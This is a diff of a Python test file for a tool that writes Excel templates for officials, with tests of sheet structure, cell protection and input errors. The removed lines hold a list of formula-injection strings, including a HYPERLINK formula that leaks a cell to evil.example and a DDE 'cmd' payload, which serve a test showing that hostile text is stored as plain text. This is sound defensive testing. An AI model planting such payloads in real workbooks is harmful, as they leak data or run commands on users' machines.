@@ -1,61 +1,28 @@
-"""write_template: the workbook officials see, its dropdowns, limits, protection and pre-filling."""
+"""write_template: the workbook officials see: its sheets, rows, protection, and its errors."""
 
 from __future__ import annotations
 
 import hashlib
-import math
-import zipfile
-from datetime import datetime
 from pathlib import Path
 
-import numpy as np
 import openpyxl
 import pytest
-from workbook_support import HERE, PERIOD, ROWS, TODAY, check, fill, keys
+from workbook_support import (
+    HERE,
+    HOSTILE,
+    PERIOD,
+    ROWS,
+    TODAY,
+    check,
+    sample_values,
+    values_sheet_xml,
+)
 
-from readiness.inputs.values import Values, make_table
 from readiness.problems import ReadinessError
 from readiness.rubric import load_rubric, parse_rubric
 from readiness.rubric.model import Rubric
 from readiness.workbook import layout as L
 from readiness.workbook import read_values, write_template
-from readiness.workbook.raw import open_workbook
-
-HOSTILE = [
-    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
-    "+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1,2)",
-    "=1+1",
-]
-
-
-def values_sheet_xml(path: Path) -> str:
-    with open_workbook(path) as book:
-        part = book.sheet_paths[L.VALUES]
-    with zipfile.ZipFile(path) as z:
-        return z.read(part).decode("utf-8")
-
-
-def sample_values(rubric: Rubric) -> Values:
-    rows: list[dict[str, object]] = []
-    for k, (unit, indicator) in enumerate(ROWS):
-        value: float = {"rule_of_law": 50.0 + k, "mining_code": 3.0, "fdi_inflows": 2.5}.get(
-            indicator, 0.0
-        )
-        rows.append(
-            {
-                "unit": unit,
-                "indicator": indicator,
-                "value": math.nan if (unit, indicator) == ("UZB", "fdi_inflows") else value,
-                "as_of": "2025" if indicator == "rule_of_law" else "2026-06-30",
-                "source": HOSTILE[k % len(HOSTILE)],
-                "source_url": "https://example.org/source",
-                "note": HOSTILE[(k + 1) % len(HOSTILE)],
-            }
-        )
-    return Values(table=make_table(rows), period=PERIOD)
-
 
 # -- structure ---------------------------------------------------------------------------------
 
@@ -95,34 +62,6 @@ def test_values_rows_grouped_by_pillar(template: Path) -> None:
     assert all(v is None for r in rows[1:] for v in r[6:])
 
 
-def test_dropdowns_limits_and_date_validation(template: Path) -> None:
-    book = openpyxl.load_workbook(template)
-    rules = {
-        str(dv.sqref): (dv.type, dv.operator, dv.formula1, dv.formula2)
-        for dv in book["Values"].data_validations.dataValidation
-    }
-    assert rules == {
-        "G2:G4": ("decimal", "between", "0", "100"),
-        # Each list: the indicator's levels, then "not found" (missing, not a level)
-        "G5:G7": ("list", None, "'Levels'!$D$2:$D$6", None),
-        "G8:G10": ("decimal", "greaterThanOrEqual", "-100", None),
-        "G11:G13": ("list", None, "'Levels'!$D$7:$D$9", None),
-        "H2:H13": ("date", "between", "18264", "73050"),  # 1950-01-01 to 2099-12-31
-        # Contested: a yes-or-empty list on the rows with levels only
-        "N5:N7": ("list", None, '"yes"', None),
-        "N11:N13": ("list", None, '"yes"', None),
-    }
-    for dv in book["Values"].data_validations.dataValidation:
-        assert dv.showErrorMessage and dv.allow_blank
-    levels = book["Levels"]
-    assert [c.value for c in levels["D"][1:6]] == ["none", "amended", "modern", "open", "not found"]
-    assert [c.value for c in levels["D"][6:9]] == ["no", "yes", "not found"]
-    assert [c.value for c in levels["C"][1:6]] == [0, 1, 2, 3, None]
-    assert levels["E6"].value.startswith("Not a level: the evidence could not be found.")
-    assert levels["E3"].value == "Older law with later amendments."
-    assert levels["A2"].value == "mining_code"
-
-
 def test_protection_locked_and_input_cells(template: Path) -> None:
     book = openpyxl.load_workbook(template)
     for ws in book.worksheets:
@@ -147,45 +86,6 @@ def test_protection_locked_and_input_cells(template: Path) -> None:
     assert widths == {"A": 9, "E": 34, "K": 48}
 
 
-# -- pre-filling and carrying forward ------------------------------------------------------------
-
-
-def test_prefill_from_values_round_trips(tmp_path: Path, rubric: Rubric) -> None:
-    values = sample_values(rubric)
-    path = tmp_path / "prefilled.xlsx"
-    write_template(rubric, PERIOD, path, values=values)
-    ws = openpyxl.load_workbook(path)["Values"]
-    assert ws["G5"].value == "open"  # categorical written as its label
-    assert ws["G11"].value == "no"
-    assert ws["H5"].is_date and ws["H5"].value == datetime(2026, 6, 30)  # a real Excel date
-    assert ws["H2"].value == "2025" and ws["H2"].data_type == "s"  # a year stays text
-    assert ws["G10"].value is None  # missing stays empty
-    report = check(path, rubric)
-    assert keys(report) == [(f"{path}!Values!G10", "missing-value")]
-    read = read_values(path, rubric, today=TODAY).table
-    expected = values.table
-    assert list(read["unit"]) == list(expected["unit"])
-    np.testing.assert_array_equal(read["value"].to_numpy(), expected["value"].to_numpy())
-    for column in ("as_of", "source", "source_url", "note"):
-        assert list(read[column]) == list(expected[column]), column
-
-
-def test_prefill_writes_interval_and_contested(tmp_path: Path, rubric: Rubric) -> None:
-    table = sample_values(rubric).table.copy()
-    first = table.index[(table["unit"] == "KAZ") & (table["indicator"] == "rule_of_law")][0]
-    level = table.index[(table["unit"] == "KAZ") & (table["indicator"] == "mining_code")][0]
-    table.loc[first, ["low", "high"]] = [45.0, 55.0]  # around the value 50.0
-    table.loc[level, "contested"] = True
-    path = tmp_path / "prefilled.xlsx"
-    write_template(rubric, PERIOD, path, values=Values(table=table, period=PERIOD))
-    ws = openpyxl.load_workbook(path)["Values"]
-    assert (ws["L2"].value, ws["M2"].value, ws["N5"].value) == (45.0, 55.0, "yes")
-    assert ws["L3"].value is None and ws["N6"].value is None
-    read = read_values(path, rubric, today=TODAY).table.set_index(["unit", "indicator"])
-    assert read.loc[("KAZ", "rule_of_law"), "high"] == 55.0
-    assert bool(read.loc[("KAZ", "mining_code"), "contested"]) is True
-
-
 def test_hostile_text_is_never_a_formula(tmp_path: Path, rubric: Rubric) -> None:
     path = tmp_path / "hostile.xlsx"
     write_template(rubric, PERIOD, path, values=sample_values(rubric))
@@ -196,57 +96,6 @@ def test_hostile_text_is_never_a_formula(tmp_path: Path, rubric: Rubric) -> None
     assert ws["K2"].value == HOSTILE[1] and ws["K2"].data_type == "s"
     read = read_values(path, rubric, today=TODAY).table
     assert read["source"].iloc[0] == HOSTILE[0]
-
-
-def test_carry_forward_from_previous_workbook(tmp_path: Path, rubric: Rubric) -> None:
-    q3 = tmp_path / "2026-Q3.xlsx"
-    write_template(rubric, "2026-Q3", q3)
-    book = openpyxl.load_workbook(q3)
-    fill(book["Values"])
-    book["Values"]["K3"] = "Checked in September."
-    book["Values"]["K3"].data_type = "s"
-    book["Values"]["G5"] = "amended"
-    book["Values"]["L2"], book["Values"]["M2"] = 40.0, 51.0  # an interval around 45.5
-    book["Values"]["N5"] = "yes"  # a contested reading
-    book.save(q3)
-
-    q4 = tmp_path / "2026-Q4.xlsx"
-    write_template(rubric, "2026-Q4", q4, previous=q3)
-    book = openpyxl.load_workbook(q4)
-    ws = book["Values"]
-    assert ws["K3"].value == "Checked in September."
-    assert ws["G5"].value == "amended"
-    assert ws["G2"].value == 45.5
-    assert ws["H2"].value == datetime(2025, 12, 31)
-    assert (ws["L2"].value, ws["M2"].value, ws["N5"].value) == (40.0, 51.0, "yes")
-    about = {row[0]: row[1] for row in book["About"].iter_rows(values_only=True)}
-    assert about["Period"] == "2026-Q4"
-    assert keys(check(q4, rubric, period="2026-Q4")) == []
-
-
-def test_previous_from_a_later_period_is_refused(tmp_path: Path, rubric: Rubric) -> None:
-    """Carrying 2026-Q4 figures back into 2026-Q1 would date them before their publication."""
-    q4 = tmp_path / "2026-Q4.xlsx"
-    write_template(rubric, "2026-Q4", q4)
-    target = tmp_path / "2026-Q1.xlsx"
-    with pytest.raises(ReadinessError) as info:
-        write_template(rubric, "2026-Q1", target, previous=q4)
-    assert [p.key() for p in info.value.problems] == [(f"{q4}!About", "previous-is-later")]
-    assert not target.exists()
-    write_template(rubric, "2026-Q4", target, previous=q4)  # the same period is fine
-
-
-def test_values_win_over_previous(tmp_path: Path, rubric: Rubric) -> None:
-    q3 = tmp_path / "q3.xlsx"
-    write_template(rubric, "2026-Q3", q3)
-    book = openpyxl.load_workbook(q3)
-    fill(book["Values"])
-    book.save(q3)
-    q4 = tmp_path / "q4.xlsx"
-    write_template(rubric, PERIOD, q4, previous=q3, values=sample_values(rubric))
-    ws = openpyxl.load_workbook(q4)["Values"]
-    assert ws["G2"].value == 50.0  # from values
-    assert ws["G5"].value == "open"
 
 
 # -- user errors ---------------------------------------------------------------------------------
@@ -270,19 +119,6 @@ def test_rubric_without_units_needs_values(tmp_path: Path) -> None:
     write_template(rubric, PERIOD, path, values=sample_values(load_rubric(HERE / "rubric.yaml")))
     rows = list(openpyxl.load_workbook(path)["Values"].iter_rows(min_row=2, values_only=True))
     assert [r[0] for r in rows[:3]] == ["KAZ", "KGZ", "UZB"]
-
-
-@pytest.mark.parametrize("content", [None, b"not a workbook"], ids=["missing", "garbage"])
-def test_unreadable_previous_workbook(
-    tmp_path: Path, rubric: Rubric, content: bytes | None
-) -> None:
-    previous = tmp_path / "previous.xlsx"
-    if content is not None:
-        previous.write_bytes(content)
-    with pytest.raises(ReadinessError) as err:
-        write_template(rubric, PERIOD, tmp_path / "x.xlsx", previous=previous)
-    code = "file-not-found" if content is None else "workbook-unreadable"
-    assert [p.key() for p in err.value.problems] == [(str(previous), code)]
 
 
 def test_output_is_deterministic_and_atomic(tmp_path: Path, rubric: Rubric) -> None:
